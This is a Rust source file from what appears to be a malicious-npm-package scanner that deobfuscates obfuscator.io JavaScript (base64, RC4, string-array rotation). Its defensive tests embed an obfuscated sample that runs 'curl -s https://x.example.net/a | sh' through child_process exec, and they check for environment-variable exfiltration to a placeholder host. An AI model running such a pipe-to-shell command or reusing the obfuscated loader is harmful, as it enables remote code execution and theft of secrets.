    let BindingPattern::BindingIdentifier(p) = &f.params.items.first()?.pattern else {
        return None;
    };
    let Statement::ExpressionStatement(es) = f.body.as_ref()?.statements.first()? else {
        return None;
    };
    let Expression::AssignmentExpression(a) = &es.expression else {
        return None;
    };
    let AssignmentTarget::AssignmentTargetIdentifier(left) = &a.left else {
        return None;
    };
    if left.name != p.name {
        return None;
    }
    match a.operator {
        AssignmentOperator::Subtraction => num(&a.right),
        AssignmentOperator::Assign => match &a.right {
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Subtraction => {
                matches!(&b.left, Expression::Identifier(i) if i.name == p.name)
                    .then(|| num(&b.right))
                    .flatten()
            }
            _ => None,
        },
        _ => None,
    }
}

/// The index shift of a self-redefining decoder: its body returns an assignment of a new
/// function to itself (`return d = function (a, b) { a = a - 0x1d9; … }, d(x, y);`), alone
/// or first in a sequence; the shift is the inner function's.
fn redefined_shift(f: &Function<'_>) -> Option<f64> {
    let body = f.body.as_ref()?;
    body.statements.iter().take(4).find_map(|s| {
        let Statement::ReturnStatement(r) = s else {
            return None;
        };
        let first = match r.argument.as_ref()?.without_parentheses() {
            Expression::SequenceExpression(seq) => seq.expressions.first()?,
            other => other,
        };
        let Expression::AssignmentExpression(a) = first.without_parentheses() else {
            return None;
        };
        let Expression::FunctionExpression(inner) = a.right.without_parentheses() else {
            return None;
        };
        index_shift(inner)
    })
}

/// obfuscator.io's base64 alphabet (lowercase first).
const OBFUSCATOR_IO_ALPHABET: &[u8] =
    b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/";

/// The first string literal in `text` that is a base64 alphabet: 64 distinct characters
/// from `A–Z a–z 0–9 + /` (optionally followed by `=`), in any order. A custom order is how
/// obfuscators vary their output; the decoder spells it out for its `indexOf` lookup.
fn base64_alphabet(text: &str) -> Option<Vec<u8>> {
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if q != b'\'' && q != b'"' {
            i += 1;
            continue;
        }
        let start = i + 1;
        let end = start
            + b[start..]
                .iter()
                .take(66)
                .take_while(|c| {
                    c.is_ascii_alphanumeric() || **c == b'+' || **c == b'/' || **c == b'='
                })
                .count();
        if b.get(end) == Some(&q) {
            let lit = &b[start..end];
            let lit = lit.strip_suffix(b"=").unwrap_or(lit);
            if lit.len() == 64 {
                let mut seen = [false; 256];
                if lit
                    .iter()
                    .all(|&c| c != b'=' && !std::mem::replace(&mut seen[c as usize], true))
                {
                    return Some(lit.to_vec());
                }
            }
        }
        i = end.max(start);
    }
    None
}

fn simple_params(p: &FormalParameters<'_>) -> Option<Vec<SymbolId>> {
    if p.rest.is_some() {
        return None;
    }
    p.items
        .iter()
        .map(|i| match &i.pattern {
            BindingPattern::BindingIdentifier(id) => id.symbol_id.get(),
            _ => None,
        })
        .collect()
}

/// obfuscator.io's base64: alphabet `a–z A–Z 0–9 + /`, `=` padding, then the bytes are
/// percent-encoded and `decodeURIComponent`-ed, i.e. read as UTF-8.
/// `alphabet` replaces obfuscator.io's when the decoder spells out another.
fn custom_base64(s: &str, alphabet: Option<&[u8]>) -> Option<Vec<u8>> {
    let alpha = alphabet.unwrap_or(OBFUSCATOR_IO_ALPHABET);
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut buf, mut bits) = (0u32, 0u32);
    for c in s.bytes() {
        if c == b'=' {
            break;
        }
        let v = alpha.iter().position(|&a| a == c)? as u32;
        buf = (buf << 6) | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((buf >> bits) as u8);
            buf &= (1 << bits) - 1;
        }
    }
    Some(out)
}

/// RC4 over code units (obfuscator.io XORs `charCodeAt` values with the keystream).
fn rc4(key: &[u8], data: &[u32]) -> Vec<u32> {
    if key.is_empty() {
        return data.to_vec();
    }
    let mut s: Vec<u32> = (0..256).collect();
    let mut j = 0usize;
    for i in 0..256 {
        j = (j + s[i] as usize + key[i % key.len()] as usize) % 256;
        s.swap(i, j);
    }
    let (mut i, mut j) = (0usize, 0usize);
    data.iter()
        .map(|&c| {
            i = (i + 1) % 256;
            j = (j + s[i] as usize) % 256;
            s.swap(i, j);
            c ^ s[(s[i] as usize + s[j] as usize) % 256]
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_int_is_javascripts() {
        assert_eq!(parse_int("1234abc"), 1234.0);
        assert_eq!(parse_int("  -12x"), -12.0);
        assert!(parse_int("abc").is_nan());
    }

    #[test]
    fn custom_base64_and_rc4() {
        // 'exec' in obfuscator.io's alphabet (lowercase first): standard "ZXhlYw==" with
        // the cases swapped.
        assert_eq!(
            custom_base64("zxHLyW==", None).as_deref(),
            Some(&b"exec"[..])
        );
        // The standard alphabet spelled out by a decoder.
        let std = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        assert_eq!(
            custom_base64("ZXhlYw==", Some(std)).as_deref(),
            Some(&b"exec"[..])
        );
        let text = format!("const a='{}=';", std::str::from_utf8(std).unwrap());
        assert_eq!(base64_alphabet(&text).as_deref(), Some(&std[..]));
        assert_eq!(base64_alphabet("'abc' \"0123\""), None);
        let enc = rc4(b"k", &"hi".chars().map(|c| c as u32).collect::<Vec<_>>());
        let dec = rc4(b"k", &enc);
        assert_eq!(dec, vec!['h' as u32, 'i' as u32]);
    }
}

#[cfg(test)]
mod fixtures {
    use crate::flow::{SinkKind, SourceKind};
    use crate::rules::test_util::{PJ, scan, scan_facts};
    use crate::signal::Kind;

    const ENV: &[(&str, &str)] = &[
        (
            "plain",
            include_str!("../../tests/fixtures/obfuscator-io/plain.js"),
        ),
        (
            "base64",
            include_str!("../../tests/fixtures/obfuscator-io/base64.js"),
        ),
        (
            "rc4",
            include_str!("../../tests/fixtures/obfuscator-io/rc4.js"),
        ),
        (
            "wrappers",
            include_str!("../../tests/fixtures/obfuscator-io/wrappers.js"),
        ),
        (
            "split",
            include_str!("../../tests/fixtures/obfuscator-io/split.js"),
        ),
        (
            "redefined",
            include_str!("../../tests/fixtures/obfuscator-io/redefined.js"),
        ),
    ];

    /// Every variant's strings are recovered: `require('https')`, `os.hostname()` and
    /// `process.env` are seen, and the environment's path to the request is found.
    #[test]
    fn string_arrays_are_decoded_and_the_path_found() {
        for (name, src) in ENV {
            let facts = scan_facts(&[("package.json", PJ), ("index.js", src)]);
            let f = &facts.files[0];
            assert!(f.has(Kind::Network), "{name}: https not recovered");
            let path = facts
                .flows
                .paths
                .iter()
                .find(|p| p.source == SourceKind::EnvAll && p.sink == SinkKind::Network);
            assert!(path.is_some(), "{name}: {:#?}", facts.flows.paths);
            // `split` builds its request options by property assignments: no constant
            // destination is folded there.
            let dest = if *name == "split" {
                None
            } else {
                Some("collect.example.com")
            };
            assert_eq!(path.unwrap().dest.as_deref(), dest, "{name}");
        }
    }

    /// A rotation loop whose checksum reads the raw array through its own accessor
    /// (`g = function (k) { return a[k - 0x100]; }`; `parseInt('1034abc')` is 1034) is
    /// replayed too; with a target no rotation meets, the array stays as written.
    #[test]
    fn rotation_through_a_raw_accessor() {
        let src = "function _a(){const x=[\"77q\",\"905zz\",\"tail\",\"child_process\",\"1034abc\",\"exec\",\"2211xyz\",\"curl -s https://x.example.net/a | sh\"];_a=function(){return x;};return _a();}\nfunction _d(i){const a=_a();return _d=function(j){j=j-0x100;return a[j];},_d(i);}\n(function(f,t){const a=f(),g=function(k){return a[k-0x100];};while(!![]){try{const v=parseInt(g(0x101))/0x1+-parseInt(g(0x103))/0x2+parseInt(g(0x105))/0x3+-parseInt(g(0x106))/0x4;if(v===t)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(_a,-272.0833333333333));\nrequire(_d(0x100))[_d(0x102)](_d(0x104));\n";
        let facts = scan_facts(&[("package.json", PJ), ("index.js", src)]);
        let f = &facts.files[0];
        assert!(f.has(Kind::ShellPipeExec), "{:?}", f.signals);
        let wrong = src.replace("-272.0833333333333", "-272.5");
        let facts = scan_facts(&[("package.json", PJ), ("index.js", &wrong)]);
        assert!(!facts.files[0].has(Kind::ShellPipeExec));
    }

    /// Control-flow flattening with call proxies: `d['wwAdZ'](exec, cmd)` is `exec(cmd)`.
    #[test]
    fn call_proxies_reach_the_real_call() {
        let src = include_str!("../../tests/fixtures/obfuscator-io/cff.js");
        let s = scan(&[("package.json", PJ), ("index.js", src)]);
        assert!(
            s.findings
                .iter()
                .any(|f| f.rule == "code/download-exec" && f.line == 1),
            "{:#?}",
            s.findings
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }
}
